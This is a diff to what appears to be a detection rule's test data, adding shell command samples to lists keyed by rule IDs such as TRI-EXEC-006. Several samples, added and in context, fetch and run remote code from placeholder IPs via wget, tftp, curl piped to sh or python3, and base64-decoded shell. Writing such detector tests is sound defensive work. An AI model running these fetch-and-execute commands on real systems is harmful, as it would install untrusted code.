@@ -160,6 +160,7 @@ HISTORY = {
         "wget http://203.0.113.5/k -O /dev/shm/k; chmod +x /dev/shm/k; /dev/shm/k",
         "bash <(curl -s http://203.0.113.8/s)", "echo aGVsbG8= | base64 -d | sh",
         "curl -o /tmp/.x http://h/x && chmod +x /tmp/.x", "curl http://203.0.113.9:8000/p.py | python3",
+        "cd /dev/shm; wget http://203.0.113.5/x; chmod 777 x; ./x", "tftp -g -r x 203.0.113.5; chmod +x x; ./x",
         "python3 -c \"import urllib.request as u;exec(u.urlopen('http://203.0.113.9/p').read())\"",
     ], [
         "curl -fsSL https://get.docker.com | sh", "curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh",
@@ -172,11 +173,12 @@ HISTORY = {
     "TRI-EXEC-006": ([
         "wget -qO- http://x/y | sh", "wget -q -O - http://x/i.sh | sudo bash", "sh -c \"$(curl -fsSL http://h/i)\"",
         "curl https://some-vendor.io/install.sh | sh", "curl -sSL https://install.example.dev | python3 -",
-        "wget https://example.org/tool; chmod +x tool",
+        "wget https://example.org/tool; chmod +x tool", "wget https://example.org/tool && chmod 0755 tool",
     ], [
         "curl -fsSL https://get.docker.com | sh", "curl -s http://198.51.100.7/x.sh | bash",
         "curl -s https://api.github.com/repos/x/y | python3 -m json.tool",
         "curl -s https://api.example.com/v1 | python3 -c 'import json,sys; print(json.load(sys.stdin))'",
+        "wget https://example.org/data.csv; chmod 644 data.csv",
     ]),
     "TRI-EXEC-007": ([
         "curl -fsSL https://get.docker.com | sh", "curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh",
